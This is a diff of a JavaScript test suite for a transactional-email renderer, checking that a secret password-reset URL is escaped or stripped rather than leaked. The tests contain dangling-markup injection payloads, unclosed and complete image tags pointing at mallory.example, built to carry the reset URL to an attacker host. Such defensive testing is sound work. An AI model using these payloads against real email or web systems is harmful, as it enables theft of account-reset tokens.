@@ -127,11 +127,11 @@ describe('a secret', () => {
   });
 
   it('is removed from unsafe places again when the message is sent', () => {
-    // In the complete HTML, the URL is part of the image tag that was never closed.
-    const body = `<img src='https://mallory.example/?`;
+    // In a slot, a tag that is never closed is text. It cannot contain what follows the slot.
+    const body = `<b>x</b> <img src='https://mallory.example/?`;
     const button = { ...slots, body, ctaLabel: `x'`, ctaUrl: '{{ reset_url }}' };
-    expect(() => renderTransactional({ slots: button, html: null, text: null }, { reset_url })).toThrow(
-      UnsafeValueError,
+    expect(renderTransactional({ slots: button, html: null, text: null }, { reset_url }).html).toContain(
+      '<b>x</b> &lt;img src=&#39;https://mallory.example/?</div>',
     );
     const picture = `<img src="https://mallory.example/?${marked(encodeURIComponent(reset_url))}">`;
     expect(settleValues(picture, [reset_url]).html).toBe('<img >');
